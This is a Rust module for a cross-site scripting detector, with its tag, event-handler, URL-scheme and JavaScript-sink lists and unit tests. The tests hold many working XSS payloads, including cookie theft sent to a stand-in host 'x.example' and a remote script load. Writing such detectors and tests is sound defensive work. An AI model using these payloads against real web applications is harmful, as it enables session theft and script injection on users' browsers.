//! Cross-site scripting: markup that a browser would run, found by tokenizing the
//! value as HTML5 the way a browser does (libinjection's tokenizer), from the data
//! state and from inside quoted and unquoted attribute values.
//!
//! # Grammar
//!
//! A value is an attack when, in one of those contexts, the tokens hold:
//!
//! - **a tag that runs or loads code** by being there: `script`, `iframe`, `frame`,
//!   `frameset`, `object`, `embed`, `applet`, `base`, `import`, `portal`,
//!   `isindex`, `vmlframe` (`link` and `style` load only style sheets); also as the tail of a tag name that holds a
//!   `<` (`<scr<script>`, which a filter that strips tags turns into `<script>`);
//! - **an event handler**: an attribute given a value whose name is a known event
//!   (`onerror`, `onload`, `onmouseover`, `ontoggle`, `onbegin`, ...: `EVENTS`), or
//!   any other `on` + letter name of five bytes or more whose value holds `(`, a
//!   backtick or `=`; or an SVG animation's `attributeName` whose value starts
//!   with `on`;
//! - **a script URL** in a URL attribute (`href`, `src`, `action`, `formaction`,
//!   `data`, `xlink:href`, `poster`, `background`, `codebase`, `lowsrc`, `dynsrc`,
//!   `ping`, `cite`, `manifest`, `to`, `from`, `values`, `by`): after character
//!   references, white space and control bytes are removed, it starts with
//!   `javascript:`, `vbscript:` or `livescript:` followed by code (a `(`, `=`,
//!   backtick or `[`; `javascript:void(0)` does nothing), or with `data:text/html`
//!   or `data:application/x-javascript`;
//! - **a document in an attribute**: `srcdoc`;
//! - **a style that runs code**: `expression(`, `url(javascript:`, `-moz-binding`,
//!   `behavior:`, `@import` in a `style` attribute;
//! - **a meta refresh**: `http-equiv=refresh`;
//! - **a whole value that is a script URL** (the application may put it in a link);
//! - **a break out of a JavaScript string**: the first quote of its kind in the
//!   value, then punctuation that ends the string's expression (`;`, `)`, `-`, `+`,
//!   `}`, `,`, `//`, white space, ...), then a sink (`alert(`, `eval(`,
//!   `document.cookie`, `fetch(`, ...); or a whole value that is a call of one.
//!
//! Rich text as editors send it (`<p style="text-align: center">`, `<img src=
//! "https://..." alt="">`, `<a href="https://...">`, `<svg><path d="..."/></svg>`)
//! holds none of these. A quote later in the value than the first of its kind is
//! inside the application's string (a code snippet's `print('x')`), so it starts no
//! break-out.
//!
//! Linear: the tokenizer is linear and runs in a fixed number of contexts; each
//! attribute value is decoded once, up to a bounded length.

use crate::text::{Words, is_space, starts_with_ci};
use crate::{Class, Finding};
use libinjectionrs::xss::{Html5Flags, Html5State, TokenType};
use std::sync::LazyLock;

/// Words a script URL, a style expression or an inline document needs.
pub(crate) const XSS_WORDS: &[&str] = &[
    "script:",
    "data:",
    "expression(",
    "url(",
    "srcdoc",
    "-moz-binding",
    "behavior:",
    "@import",
    "xmlns",
    "xlink",
];

/// Tags that run or load code, or change how the page's URLs resolve, by being
/// there. Rich text's own tags (`p`, `img`, `a`, `svg`, `table`, ...) are not among
/// them: what makes those run code is an attribute, which the walk judges.
const TAGS: &[&str] = &[
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "import",
    "portal", "isindex", "vmlframe",
];

const URL_ATTRS: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "poster",
    "background",
    "codebase",
    "lowsrc",
    "dynsrc",
    "ping",
    "cite",
    "manifest",
    "to",
    "from",
    "values",
    "by",
];

const SCRIPT_SCHEMES: &[&str] = &[
    "javascript:",
    "vbscript:",
    "livescript:",
    "data:text/html",
    "data:application/x-javascript",
];

/// How much of an attribute value is decoded and looked at.
const MAX_VALUE: usize = 256;

/// Scans `input` for cross-site scripting.
pub fn scan(input: &[u8]) -> Option<Finding> {
    if !may_match(input) {
        return None;
    }
    let whole = 0..input.len();
    if input.contains(&b':') && script_url(input) {
        return Some(Finding::new(Class::Xss, "script URL", whole));
    }
    if let Some(rule) = script_breakout(input) {
        return Some(Finding::new(Class::Xss, rule, whole));
    }
    if let Some(rule) = function_constructor(input) {
        return Some(Finding::new(Class::Xss, rule, whole));
    }
    if !may_be_xss(input) {
        return None;
    }
    for ctx in [
        Html5Flags::DataState,
        Html5Flags::ValueNoQuote,
        Html5Flags::ValueSingleQuote,
        Html5Flags::ValueDoubleQuote,
    ] {
        if let Some(rule) = walk(input, ctx) {
            return Some(Finding::new(Class::Xss, rule, whole));
        }
    }
    None
}

/// A necessary condition for [`scan`], cheap to check: without it `scan` finds
/// nothing (it checks it first), so a value that fails it need not be scanned.
pub(crate) fn may_match(input: &[u8]) -> bool {
    input.contains(&b':')
        || input.contains(&b'(')
        || input.contains(&b'[')
        || input.contains(&b'`')
        || may_be_xss(input)
        || crate::text::find_ci(input, 0, b"document.").is_some()
        || crate::text::find_ci(input, 0, b"xmlhttprequest").is_some()
}

/// A necessary condition for everything [`scan`] reports, checked in one or two
/// passes before any tokenizing: a `<`, an `on…=` attribute, or one of the words a
/// script URL, a style expression or an inline document needs.
pub(crate) fn may_be_xss(input: &[u8]) -> bool {
    static WORDS: LazyLock<Words> = LazyLock::new(|| Words::new(XSS_WORDS));
    if input.contains(&b'<') || WORDS.any(input) {
        return true;
    }
    // `on` + letters + optional white space + `=`, at a word start.
    let mut from = 0;
    while let Some(rel) = memchr::memchr2(b'o', b'O', &input[from..]) {
        let at = from + rel;
        from = at + 1;
        if at > 0 && input[at - 1].is_ascii_alphanumeric() {
            continue;
        }
        if !matches!(input.get(at + 1), Some(b'n' | b'N')) {
            continue;
        }
        let letters = input[at + 2..]
            .iter()
            .take(32)
            .take_while(|c| c.is_ascii_alphabetic())
            .count();
        if letters < 2 {
            continue;
        }
        let k = crate::text::skip_space(input, at + 2 + letters);
        if input.get(k) == Some(&b'=') {
            return true;
        }
    }
    false
}

fn walk(input: &[u8], ctx: Html5Flags) -> Option<&'static str> {
    let mut h = Html5State::new(input, ctx);
    let mut last_attr: Vec<u8> = Vec::new();
    let mut steps = 0usize;
    while h.next() {
        steps += 1;
        if steps > input.len() + 16 {
            break;
        }
        let tok = &h.token_start[..h.token_len.min(h.token_start.len())];
        match h.token_type {
            TokenType::TagNameOpen | TokenType::TagNameSelfclose => {
                let name: Vec<u8> = tok.iter().copied().filter(|&c| c != 0).collect();
                // `<scr<script>`: the tokenizer reads one tag named `scr<script`, a
                // filter that strips tags leaves `<script>`; every piece after a `<`
                // is a tag name too.
                if name
                    .split(|&c| c == b'<')
                    .any(|piece| crate::text::one_of(piece, TAGS))
                {
                    return Some("tag that runs or loads code");
                }
                last_attr.clear();
            }
            TokenType::AttrName => {
                last_attr = tok
                    .iter()
                    .copied()
                    .filter(|&c| c != 0)
                    .map(|c| c.to_ascii_lowercase())
                    .collect();
                if last_attr == b"srcdoc" {
                    return Some("document in an attribute");
                }
            }
            TokenType::AttrValue => {
                let name = std::mem::take(&mut last_attr);
                if event_handler(&name, tok) {
                    return Some("event handler");
                }
                if crate::text::one_of(&name, URL_ATTRS) && script_url(tok) {
                    return Some("script URL in a URL attribute");
                }
                if name == b"style" && style_runs_code(tok) {
                    return Some("style that runs code");
                }
                if name == b"http-equiv" && starts_with_ci(tok, 0, b"refresh") {
                    return Some("meta refresh");
                }
                // SVG animation that sets an event handler (`<set attributeName=onload
                // to=alert(1)>`).
                if name == b"attributename" && starts_with_ci(tok, 0, b"on") {
                    return Some("animation sets an event handler");
                }
            }
            _ => {}
        }
    }
    None
}

/// DOM event handler attributes (the ones payloads use, and their families).
const EVENTS: &[&str] = &[
    "onerror",
    "onload",
    "onclick",
    "ondblclick",
    "onmouseover",
    "onmouseout",
    "onmouseenter",
    "onmouseleave",
    "onmousedown",
    "onmouseup",
    "onmousemove",
    "onfocus",
    "onfocusin",
    "onfocusout",
    "onblur",
    "ontoggle",
    "onbegin",
    "onend",
    "onrepeat",
    "onanimationstart",
    "onanimationend",
    "onanimationiteration",
    "ontransitionend",
    "ontransitionstart",
    "ontransitionrun",
    "onpageshow",
    "onpagehide",
    "onscroll",
    "onwheel",
    "onresize",
    "oninput",
    "onchange",
    "onsubmit",
    "onreset",
    "oninvalid",
    "onselect",
    "onkeydown",
    "onkeyup",
    "onkeypress",
    "oncopy",
    "oncut",
    "onpaste",
    "ondrag",
    "ondragstart",
    "ondragend",
    "ondragenter",
    "ondragleave",
    "ondragover",
    "ondrop",
    "onpointerover",
    "onpointerdown",
    "onpointerup",
    "onpointerenter",
    "onpointerleave",
    "onpointermove",
    "onpointerout",
    "onpointerrawupdate",
    "ontouchstart",
    "ontouchend",
    "ontouchmove",
    "onplay",
    "onplaying",
    "onpause",
    "onended",
    "oncanplay",
    "oncanplaythrough",
    "onloadstart",
    "onloadeddata",
    "onloadedmetadata",
    "onprogress",
    "onstart",
    "onfinish",
    "onbounce",
    "onhashchange",
    "onpopstate",
    "onmessage",
    "onbeforeunload",
    "onunload",
    "onafterprint",
    "onbeforeprint",
    "onbeforetoggle",
    "onauxclick",
    "oncontextmenu",
    "onsearch",
    "onshow",
    "onwebkitanimationstart",
    "onwebkittransitionend",
    "onformdata",
    "onsecuritypolicyviolation",
    "onselectstart",
    "onselectionchange",
    "onvolumechange",
    "ontimeupdate",
    "onwaiting",
    "onsuspend",
    "onstalled",
    "onseeked",
    "onseeking",
    "onratechange",
    "ondurationchange",
    "onemptied",
    "onabort",
    "onreadystatechange",
    "onfullscreenchange",
    "onmozfullscreenchange",
    "onwebkitmouseforcechanged",
    "onactivate",
    "onbeforeactivate",
    "onbeforecopy",
    "onbeforecut",
    "onbeforepaste",
    "onfilterchange",
    "onpropertychange",
    "onmove",
    "onmoveend",
];

/// An event handler: a known event, or any `on…` name of five letters or more
/// whose value reads as script (a call, a template string or an assignment).
fn event_handler(name: &[u8], value: &[u8]) -> bool {
    if !(name.len() > 2 && name.starts_with(b"on") && name[2].is_ascii_alphabetic()) {
        return false;
    }
    crate::text::one_of(name, EVENTS)
        || (name.len() >= 5 && value.iter().any(|c| matches!(c, b'(' | b'`' | b'=')))
}

/// Calls and properties that run or leak script.
const JS_SINKS: &[&str] = &[
    "alert(",
    "prompt(",
    "confirm(",
    "eval(",
    "print(",
    "settimeout(",
    "setinterval(",
    "function(",
    "fetch(",
    "import(",
    "document.cookie",
    "document.domain",
    "document.location",
    "document.write",
    "window.location",
    "location.href",
    "xmlhttprequest",
    "constructor(",
    "string.fromcharcode",
    "atob(",
    "top[",
    "self[",
    "window[",
    "parent[",
    "alert`",
    "prompt`",
    "confirm`",
    "alert?.(",
    "prompt?.(",
    "confirm?.(",
    "eval?.(",
    "document.body",
    "document.createelement",
    "new image(",
    "with(document)",
];

/// A break out of a JavaScript string into code that runs: the first quote of its
/// kind, then up to 8 bytes of punctuation that ends the string's expression (`;`,
/// `)`, `-`, `+`, `}`, `,`, `/`, `*`, `|`, `&`, `=`, `(`, `[` or white space), then
/// a sink (`alert(`, `eval(`, `document.cookie`, ...); or a sink that starts the
/// value, which ends in `)`, `);` or `)//`.
fn script_breakout(input: &[u8]) -> Option<&'static str> {
    static SINKS: LazyLock<Words> = LazyLock::new(|| Words::new(JS_SINKS));
    for (_, at, end) in SINKS.find_all(input) {
        // A tagged template call needs its argument and closing backtick right
        // there (`` alert`1` ``): `` `alert` `` in prose is a name in code marks.
        if input[end - 1] == b'`' {
            let arg = input[end..]
                .iter()
                .take(32)
                .take_while(|&&c| c != b'`' && !is_space(c))
                .count();
            if arg == 0 || input.get(end + arg) != Some(&b'`') {
                continue;
            }
        }
        // Look back over the punctuation to a quote.
        let mut k = at;
        let mut punct = 0;
        while k > 0 && punct < 8 {
            let c = input[k - 1];
            if matches!(c, b'\'' | b'"' | b'`') {
                // Only the first quote of its kind ends the application's string: a
                // later one (a code snippet's `print('x')`) was never outside it.
                let first = memchr::memchr(c, input) == Some(k - 1);
                return (first && (punct > 0 || k == at)).then_some("string break-out into script");
            }
            if matches!(
                c,
                b';' | b')'
                    | b'-'
                    | b'+'
                    | b'}'
                    | b','
                    | b'/'
                    | b'*'
                    | b'|'
                    | b'&'
                    | b'='
                    | b'('
                    | b'['
                    | b']'
            ) || is_space(c)
            {
                punct += 1;
                k -= 1;
                continue;
            }
            break;
        }
        // A sink right at the start of the value, called: `alert(1)` as a whole
        // value is code, not text.
        if k == 0
            && at == 0
            && input
                .get(at..)
                .is_some_and(|r| r.ends_with(b")") || r.ends_with(b");") || r.ends_with(b")//"))
        {
            return Some("script call as the whole value");
        }
    }
    None
}

/// Code built from a string by the Function constructor, which template sandboxes
/// (AngularJS, Vue) leave reachable: `''.constructor.constructor('alert(1)')()`
/// anywhere, or `constructor` or `$eval` inside a client-side template's `{{ }}`.
fn function_constructor(input: &[u8]) -> Option<&'static str> {
    if crate::text::find_ci(input, 0, b"constructor.constructor(").is_some() {
        return Some("Function constructor");
    }
    let mut from = 0;
    while let Some(rel) = memchr::memmem::find(&input[from..], b"{{") {
        let open = from + rel + 2;
        let body = &input[open..(open + MAX_VALUE).min(input.len())];
        let body = match memchr::memmem::find(body, b"}}") {
            Some(end) => &body[..end],
            None => body,
        };
        if crate::text::find_ci(body, 0, b"constructor(").is_some()
            || crate::text::find_ci(body, 0, b"$eval").is_some()
        {
            return Some("client-side template expression that runs code");
        }
        from = open + body.len();
    }
    None
}

/// A value that, decoded as a browser reads a URL attribute, starts with a script
/// scheme.
fn script_url(value: &[u8]) -> bool {
    let decoded = decode_attr(&value[..value.len().min(MAX_VALUE)]);
    let compact: Vec<u8> = decoded
        .into_iter()
        .filter(|&c| c > b' ' && c != 0x7f)
        .map(|c| c.to_ascii_lowercase())
        .collect();
    let trimmed = compact
        .strip_prefix(b"\"")
        .or_else(|| compact.strip_prefix(b"'"))
        .unwrap_or(&compact);
    SCRIPT_SCHEMES.iter().any(|s| {
        trimmed.starts_with(s.as_bytes()) && {
            let code = &trimmed[s.len()..];
            // `data:` documents carry markup; script schemes need code: a call, an
            // assignment, a template or an index (`javascript: it hangs` is prose,
            // `javascript:void(0)` does nothing).
            s.starts_with("data:")
                || (code.iter().any(|c| matches!(c, b'(' | b'=' | b'`' | b'['))
                    && !matches!(code, b"void(0)" | b"void(0);" | b"void0" | b";" | b""))
        }
    })
}

fn style_runs_code(value: &[u8]) -> bool {
    let v = decode_attr(&value[..value.len().min(MAX_VALUE * 4)]);
    let compact: Vec<u8> = v
        .into_iter()
        .filter(|&c| c > b' ' && c != b'\\')
        .map(|c| c.to_ascii_lowercase())
        .collect();
    [
        &b"expression("[..],
        b"url(javascript:",
        b"url('javascript:",
        b"url(\"javascript:",
        b"-moz-binding",
        b"behavior:",
        b"@import",
    ]
    .iter()
    .any(|p| memchr::memmem::find(&compact, p).is_some())
}

/// Character references decoded (`&#106;`, `&#x6a;`, with or without the `;`, and
/// the few named ones that matter in a URL: `&colon;`, `&Tab;`, `&NewLine;`,
/// `&lpar;`, `&rpar;`).
fn decode_attr(v: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(v.len());
    let mut i = 0;
    while i < v.len() {
        if v[i] == b'&' {
            if let Some((b, used)) = numeric_reference(&v[i..]) {
                out.push(b);
                i += used;
                continue;
            }
            let named = [
                (&b"&colon;"[..], b':'),
                (b"&tab;", b'\t'),
                (b"&newline;", b'\n'),
                (b"&lpar;", b'('),
                (b"&rpar;", b')'),
            ]
            .into_iter()
            .find(|(name, _)| starts_with_ci(v, i, name));
            if let Some((name, b)) = named {
                out.push(b);
                i += name.len();
                continue;
            }
        }
        out.push(v[i]);
        i += 1;
    }
    out
}

/// `&#DDD;` or `&#xHH;` (the `;` optional, at most 8 digits) at the start of `s`:
/// the byte it stands for (`?` beyond ASCII) and its length.
fn numeric_reference(s: &[u8]) -> Option<(u8, usize)> {
    if s.get(1) != Some(&b'#') {
        return None;
    }
    let (radix, start) = if matches!(s.get(2), Some(b'x' | b'X')) {
        (16, 3)
    } else {
        (10, 2)
    };
    let digits = s[start..]
        .iter()
        .take(8)
        .take_while(|c| (**c as char).is_digit(radix))
        .count();
    if digits == 0 {
        return None;
    }
    let text = std::str::from_utf8(&s[start..start + digits]).ok()?;
    let value = u32::from_str_radix(text, radix).ok()?;
    let mut used = start + digits;
    if s.get(used) == Some(&b';') {
        used += 1;
    }
    Some((
        u8::try_from(value)
            .ok()
            .filter(u8::is_ascii)
            .unwrap_or(b'?'),
        used,
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> bool {
        scan(s.as_bytes()).is_some()
    }

    #[test]
    fn attacks() {
        for s in [
            "';alert(1)//",
            "\"-alert(document.cookie)-\"",
            "');prompt(1)//",
            "' + document.cookie + '",
            "alert(1)",
            "<script>alert(1)</script>",
            "<scr<script>ipt>print(88)</script>",
            "<svg><set attributeName=onmouseover to=alert(1)>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<img src=x onerror=alert(1)>",
            "\"><svg onload=alert(1)>",
            "' onmouseover='alert(1)",
            "javascript:alert(1)",
            "  JaVaScRiPt:alert(1)",
            "jav&#x61;script:alert(1)",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
            "<div style=\"width:expression(alert(1))\">",
            "<details open ontoggle=alert(1)>",
            "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
            "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<body onload=alert(1)>",
            "<a href=\"javascript&colon;alert(1)\">x</a>",
            "\"];alert(1);//",
            "'-confirm?.(document.domain)-'",
            "\\\";prompt`1`;//",
            "\"+new Image().src='//x.example/'+document.cookie+\"",
            "'-document.body.appendChild(document.createElement('script')).src='//x.example/a.js'-'",
            "{{$eval.constructor('alert(1)')()}}",
            "<div v-html=\"''.constructor.constructor('alert(1)')()\"></div>",
        ] {
            assert!(hit(s), "missed: {s}");
        }
    }

    #[test]
    fn benign() {
        for s in [
            "Hello <b>world</b>",
            "<a href=\"https://example.com\">link</a>",
            "1 < 2 and 3 > 2",
            "Use the <div class=\"x\"> element",
            "It's a \"quote\" = fine",
            "one=1&two=2",
            "data:image/png;base64,iVBORw0KGgo=",
            "Online shopping is fun",
            "john+or@var.es",
            "x = \"done\"",
            "I'd alert (everyone) about it",
            "Use print() in Python",
            "The function(s) we need",
            "He said \"hello\" (twice)",
            "<p style=\"text-align: center;\">Hi <code>x</code>&nbsp;</p>",
            "<p><img src=\"https://cdn.example.org/a.jpg\" alt=\"a\" width=\"1200\"></p><h3>Setup</h3>",
            "<a href=\"https://example.com/a?b=c\">link</a> and <a href=\"javascript:void(0)\">menu</a>",
            "JavaScript: it hangs after a few seconds",
            "<svg viewBox=\"0 0 24 24\"><path d=\"M12 2L2 7l10 5\" fill=\"#2e2\"/></svg>",
            "data:image/svg+xml;utf8,<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M1 1\"/></svg>",
            "I wrote:\n```python\nfor root, dirs, files in os.walk('exports'):\n    print(len(files))\n```",
            "const el = document.createElement(\"div\"); document.body.appendChild(el);",
            "Hello {{ user.name }}, you have {{ count }} messages",
            "Use `alert` sparingly",
            "img = \"a.png\"; const i = new Image(); i.src = img;",
        ] {
            assert!(!hit(s), "false positive: {s}: {:?}", scan(s.as_bytes()));
        }
    }
}
